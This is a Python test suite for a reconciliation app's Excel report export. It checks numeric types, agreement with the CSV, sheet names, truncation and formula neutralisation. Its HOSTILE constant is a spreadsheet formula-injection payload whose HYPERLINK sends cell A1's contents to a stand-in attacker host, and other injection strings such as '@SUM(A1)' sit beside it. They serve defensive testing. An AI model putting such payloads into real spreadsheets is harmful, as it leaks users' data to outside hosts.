"""Workbooks, read back by another program's eyes: types, no formulas, nothing lost, and the numbers of the CSV."""

import csv as csv_files
import io
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from qv_desktop.adapters.reports import csv, xlsx
from qv_desktop.adapters.reports.reconciliation import ReconciliationReports
from qv_desktop.domain.break_history import Day, RunLine
from qv_desktop.domain.breaks import met
from qv_desktop.domain.reconciliation import Break, Uncompared
from qv_desktop.domain.report_values import Value, figure
from qv_desktop.domain.reports import Document, Section, Span, of_run, of_span
from qv_desktop.domain.spreadsheets import neutral
from tests.adapters.reports.test_reports import a_break, a_run
from tests.builders import NOW

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
RUN = replace(
    a_run(a_break("NVDA", "1,250"), a_break(HOSTILE, "—"), a_break("@SUM(A1)", "=1+1")),
    uncompared=(Uncompared("cash", "USD", "+not told"),),
)


def opened(data: bytes) -> Workbook:
    return load_workbook(io.BytesIO(data))


def rows(book: Workbook, sheet: str) -> list[tuple[object, ...]]:
    return list(book[sheet].iter_rows(values_only=True))


def test_numbers_are_numbers_times_are_times_and_texts_are_texts() -> None:
    book = opened(xlsx.document(of_run(RUN)))
    assert book.sheetnames == ["Report", "Quantity", "Not compared"]
    first = book["Quantity"][2]
    assert [cell.data_type for cell in first] == ["s", "s", "s", "n", "n", "n", "n", "s"]
    assert [cell.value for cell in first][3:7] == [1250, 262, 12, 1694.04]
    assert first[6].number_format == '"$"#,##0.00;-"$"#,##0.00'
    assert book["Quantity"][3][3].value == "—"  # no activity is no zero
    head = {row[0]: row[1] for row in rows(book, "Report")[3:]}
    assert (head["As of"], head["Our books read at"]) == (NOW.replace(tzinfo=None),) * 2
    assert (head["Run"], head["Account"], head["Operator"], head["Matched"]) == (RUN.id, "••••123", "demo", 7)
    assert (head["Input hash"], head["Report hash"]) == (RUN.input_hash, of_run(RUN).hash)
    assert head["Sources"]
    assert head["Tolerances"]
    assert rows(book, "Report")[1] == ("Verdict", "3 breaks, $5,082.12 at risk.")


def test_no_cell_is_a_formula_or_a_link_and_a_hostile_text_is_neutralised() -> None:
    data = xlsx.document(of_run(RUN))
    book = opened(data)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s", "n", "d"}
    assert [cell for cell in cells if cell.hyperlink] == []
    assert [row[1] for row in rows(book, "Quantity")[1:]] == ["NVDA", f"'{HOSTILE}", "'@SUM(A1)"]
    assert {cell.number_format for cell in cells if cell.data_type == "s"} == {"@"}
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        assert not any(b"<f>" in parts.read(name) or b"hyperlink" in parts.read(name) for name in parts.namelist())


def test_the_numbers_are_those_of_the_csv() -> None:
    lines = list(csv_files.DictReader(io.StringIO(csv.reconciliation(RUN), newline="")))
    table = rows(opened(xlsx.document(of_run(RUN))), "Quantity")[1:]
    told = [line for line in lines if line["class"] == "quantity"]
    assert [Decimal(repr(row[6])) for row in table] == [Decimal(line["at_risk"]) for line in told]
    for place, name in ((3, "internal"), (5, "difference")):
        for row, line in zip(table, told, strict=True):
            assert line[name].lstrip("+'").replace(",", "") == str(row[place]).lstrip("'")


def test_a_report_over_time_has_a_sheet_for_each_section_with_its_head_in_view() -> None:
    items = [change.after for change in met([], RUN, "a")]
    line = RunLine("run-1" * 8, NOW, "••••7Q2", "system", "every 30 s", 412, 3, Decimal("5.25"), "h")
    span = Span(NOW, NOW + timedelta(days=1), "", "ann", NOW, (Day(date(2026, 11, 20), 9, 2, 3, Decimal(5), 0, Decimal(0)),),
                tuple(items), (line,))  # fmt: skip
    book = opened(xlsx.document(of_span(span)))
    assert book.sheetnames == ["Report", "Totals", "Days", "Breaks open", "Comparisons that said something"]
    assert all(sheet.freeze_panes == "A2" for sheet in book.worksheets[1:])
    assert rows(book, "Days")[1] == (datetime.fromisoformat("2026-11-20"), 9, 2, 3, 5)
    assert rows(book, "Totals")[1:] == [("Open", 3, 5082.12), ("All", 3, 5082.12)]
    assert rows(book, "Comparisons that said something")[1] == (
        NOW.replace(tzinfo=None), line.id, "••••7Q2", "system", "every 30 s", 412, 3, 5.25,
    )  # fmt: skip
    assert book["Breaks open"].column_dimensions["A"].width > len("NVDA (positions)")
    assert book["Breaks open"].auto_filter.ref == "A1:L4"


def test_an_empty_section_says_why() -> None:
    assert rows(opened(xlsx.document(of_run(a_run()))), "Breaks")[1][0] == "No differences in what was compared."


TITLES = st.text(st.characters(blacklist_categories=["Cs"]), max_size=40)
TEXTS = st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\r\ufffe\uffff"), max_size=40)


@settings(max_examples=60, deadline=None)
@given(st.lists(TEXTS, min_size=2, max_size=2, unique=True), TITLES)
def test_any_text_comes_back_as_it_is_but_for_apostrophes_whatever_it_is_called(cells: list[str], title: str) -> None:
    sections = tuple(Section(title, ("a", "b"), (tuple(cells),)) for _ in range(2))  # two sheets of one name
    book = opened(xlsx.document(Document("T", "s", "v", True, (), sections)))
    assert len(book.sheetnames) == 3
    for name in book.sheetnames[1:]:
        assert len(name.encode("utf-16-le")) <= 62
        back = [cell or "" for cell in rows(book, name)[1]]
        assert [str(cell) for cell in back] == [_plain(neutral(cell)) for cell in cells]


@pytest.mark.parametrize("text", ["x" * 40_000, "𐀀" * 20_000, "a;=" * 12_000])
def test_a_text_longer_than_a_cell_takes_is_cut_and_says_so(text: str) -> None:
    book = opened(xlsx.document(Document("T", "s", "v", True, (), (Section("T", ("a",), ((text,),)),))))
    kept = str(book["T"]["A2"].value)
    assert kept.startswith(neutral(text)[:15_000])
    assert kept.endswith(f" … (cut: {len(text):,} characters)")
    assert len(kept.encode("utf-16-le")) < 2 * 32_767


def _plain(text: str) -> str:
    """What a file of XML may hold of a text; the rest is written as _x0000_ and read so by this reader."""
    return "".join(f"_x{ord(c):04X}_" if ord(c) < 32 and c not in "\t\n" else c for c in text)


NUMBERS = st.decimals(allow_nan=False, allow_infinity=False, places=4, min_value=-(10**13), max_value=10**13)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.one_of(NUMBERS, st.integers(-(10**17), 10**17)), min_size=1, max_size=8))
def test_every_number_comes_back_exactly_as_a_number_or_else_as_a_text(numbers: list[Value]) -> None:
    section = Section("N", ("At risk",), tuple((str(n),) for n in numbers), values=tuple((n,) for n in numbers))
    back = rows(opened(xlsx.document(Document("T", "s", "v", True, (), (section,)))), "N")[1:]
    assert [Decimal(str(row[0]).lstrip("'")) for row in back] == [Decimal(str(n)) for n in numbers]
    assert all(
        isinstance(row[0], (int, float)) for row, n in zip(back, numbers, strict=True) if abs(Decimal(str(n))) < 10**9
    )


def test_a_time_elsewhere_in_the_world_is_written_in_utc_to_the_millisecond() -> None:
    at = datetime(2026, 3, 8, 3, 0, 0, 123000, UTC)
    section = Section("T", ("At",), (("x",),), values=((at.astimezone(),),))
    cell = opened(xlsx.document(Document("T", "s", "v", True, (), (section,))))["T"]["A2"]
    assert (cell.value, cell.number_format) == (at.replace(tzinfo=None), 'yyyy-mm-dd hh:mm:ss.000" UTC"')


@pytest.mark.parametrize(("text", "value"), [
    ("+12", Decimal(12)), ("-1,234.50", Decimal("-1234.50")), ("—", "—"), ("BUY 20 KO 62.10", "BUY 20 KO 62.10"), ("", ""),
    ("1,2,3x", "1,2,3x"), ("٣", "٣"), ("1e5", "1e5"), ("=1", "=1"),
])  # fmt: skip
def test_what_is_nothing_but_a_number_is_one(text: str, value: Value) -> None:
    assert figure(text) == value


def test_it_is_written_whole_under_the_folder_only(tmp_path: Path) -> None:
    (path,) = ReconciliationReports().written(RUN, tmp_path / "exports", ("xlsx",))
    assert path.parent == tmp_path / "exports"
    assert opened(path.read_bytes()).sheetnames[0] == "Report"
    assert list((tmp_path / "exports").iterdir()) == [path]


def test_two_thousand_rows_are_all_there() -> None:
    found = (Break("fills", f"{n}::x", "quantity", "low", "1", "2", "+1", Decimal(n), "book it") for n in range(2000))
    many = replace(RUN, breaks=tuple(found))
    table = rows(opened(xlsx.document(of_run(many))), "Quantity")
    assert [row[6] for row in table[1:]] == list(range(2000))
